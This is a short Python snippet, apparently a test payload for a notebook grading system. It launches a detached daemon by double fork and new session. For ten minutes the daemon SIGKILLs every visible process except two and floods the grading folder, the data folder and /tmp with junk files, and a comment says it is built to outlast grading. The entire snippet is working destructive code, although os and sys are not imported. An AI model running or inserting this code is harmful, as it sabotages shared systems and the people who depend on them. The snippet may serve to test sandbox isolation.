# A daemon (double fork, new session) that kills every other process it can see and floods the
# disk, for ten minutes: long after this notebook's grading.
import signal

KILLER = """
import os, signal, sys, time
spare = {os.getpid(), int(sys.argv[1])}
targets = [sys.argv[2] + "/grading", sys.argv[3] + "/data", "/tmp"]
deadline = time.time() + 600
n = 0
while time.time() < deadline:
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in spare:
            try:
                os.kill(int(name), signal.SIGKILL)
            except OSError:
                pass
    for folder in targets:
        try:
            with open(os.path.join(folder, "flood-%d" % (n % 200)), "w") as handle:
                handle.write("x" * 4096)
        except OSError:
            pass
    n += 1
    time.sleep(0.05)
"""
runner_pid = os.getpid()
if os.fork() == 0:
    try:
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", KILLER, str(runner_pid), COURSE, CODE, "{MARKER}-killer"])
    finally:
        os._exit(0)
os.wait()
print("a killer is loose")
